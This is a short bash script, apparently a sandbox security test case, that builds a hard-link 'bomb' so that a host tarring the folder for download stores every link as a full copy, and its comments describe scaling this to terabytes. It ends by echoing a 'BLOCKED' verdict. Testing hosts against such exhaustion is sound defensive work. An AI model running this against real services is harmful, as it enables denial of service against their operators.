#!/bin/bash
# Attack (memory amplification) on download: hard links cost no disk, but a host that tars a folder
# stores every link as a full copy of the file. 8 MiB of data and 31 links here give a 256 MiB tar;
# 60 MiB and 100,000 links would ask the host for 6 TB.
mkdir -p /workspace/bomb
head -c 8M /dev/urandom > /workspace/bomb/f0
for i in $(seq 1 31); do ln /workspace/bomb/f0 /workspace/bomb/f$i; done
du -sh /workspace/bomb
echo "VERDICT: BLOCKED"
